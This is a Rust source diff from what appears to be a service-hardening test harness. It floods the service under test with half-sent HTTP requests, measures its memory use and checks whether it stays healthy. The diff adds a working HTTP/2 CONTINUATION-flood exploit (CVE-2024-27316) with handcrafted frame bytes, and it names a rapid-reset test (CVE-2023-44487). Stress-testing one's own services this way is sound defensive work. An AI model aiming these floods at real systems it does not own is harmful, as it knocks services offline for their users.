@@ -6,11 +6,11 @@ use std::time::Duration;
 use anyhow::Result;
 use lab_verdict::random::SplitMix64;
 use socket2::SockRef;
-use tokio::io::AsyncWriteExt;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 
 use super::done::Done;
-use crate::world::health::is_healthy;
+use crate::world::health::{Usage, is_healthy};
 use crate::world::{EVENT_LOG, World};
 
 /// Connections of one act.
@@ -28,8 +28,14 @@ pub(super) async fn flood(
     let half_a_body =
         b"POST /api/v1/events HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n[{"
             .as_slice();
+    let before = Usage::of(service)?;
+    let mut taken = None;
     let flood = async {
-        match random.below(5) {
+        match random.below(6) {
+            5 => {
+                taken = endless_head(service.http()).await.err();
+                1
+            }
             0 => connections(service.http(), b"", false).await,
             1 => connections(service.http(), half_a_head, true).await,
             2 => connections(service.http(), half_a_body, true).await,
@@ -39,9 +45,15 @@ pub(super) async fn flood(
     };
     let health = async {
         tokio::time::sleep(HELD / 2).await;
-        is_healthy(service).await
+        let meanwhile = Usage::of(service);
+        (is_healthy(service).await, meanwhile)
     };
-    let (count, healthy) = tokio::join!(flood, health);
+    let (count, (healthy, meanwhile)) = tokio::join!(flood, health);
+    done.broken.extend(taken);
+    // What hundreds of connections hold is bounded while they hold it, not only once they are gone.
+    let more = meanwhile?.memory_since(&before);
+    done.broken
+        .extend(more.map(|more| format!("{} used {more} during a flood", service.name())));
     if !healthy {
         done.broken.push(format!(
             "{} did not answer health under a flood",
@@ -69,6 +81,54 @@ async fn connections(address: SocketAddr, bytes: &[u8], reset: bool) -> u64 {
     }
     tokio::time::sleep(HELD).await;
     open.len() as u64
+}
+
+/// A head that never ends (CVE-2024-27316): CONTINUATION frames until the server ends the connection.
+///
+/// # Errors
+/// It did not, with the bytes that were sent.
+async fn endless_head(address: SocketAddr) -> Result<(), String> {
+    /// Far more than any head, and than the buffers of both ends.
+    const FRAMES: usize = 2_000;
+    /// Whole fields of 62 bytes.
+    const FRAME: usize = 264 * 62;
+    const LIMIT: Duration = Duration::from_secs(3);
+    let Ok(mut stream) = TcpStream::connect(address).await else {
+        return Ok(());
+    };
+    let (mut reader, mut writer) = stream.split();
+    let mut sent = 0;
+    let write = async {
+        // The preface with empty SETTINGS, and HEADERS of stream 1 that do not end with it.
+        let begin =
+            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0\x01\x01\0\0\0\0\x01\x82";
+        writer.write_all(begin).await?;
+        // Literals without indexing, each of 62 bytes: name `x`, and a value.
+        let mut field = vec![0, 1, b'x', 58];
+        field.resize(62, b'v');
+        let mut frame = vec![0, (FRAME >> 8) as u8, FRAME as u8, 9, 0, 0, 0, 0, 1];
+        frame.extend(field.iter().cycle().take(FRAME));
+        for _ in 0..FRAMES {
+            writer.write_all(&frame).await?;
+            sent += FRAME;
+        }
+        // Nothing more is sent, and the connection stays.
+        std::future::pending::<std::io::Result<()>>().await
+    };
+    let mut answer = Vec::new();
+    let ended = async {
+        tokio::select! {
+            // A reset is an end as well as any.
+            _ = reader.read_to_end(&mut answer) => {}
+            _ = write => {}
+        }
+    };
+    match tokio::time::timeout(LIMIT, ended).await {
+        Ok(()) => Ok(()),
+        Err(_) => Err(format!(
+            "{address} kept a connection whose head had {sent} bytes and no end"
+        )),
+    }
 }
 
 /// Requests that are taken back at once (CVE-2023-44487), on one connection after the other.
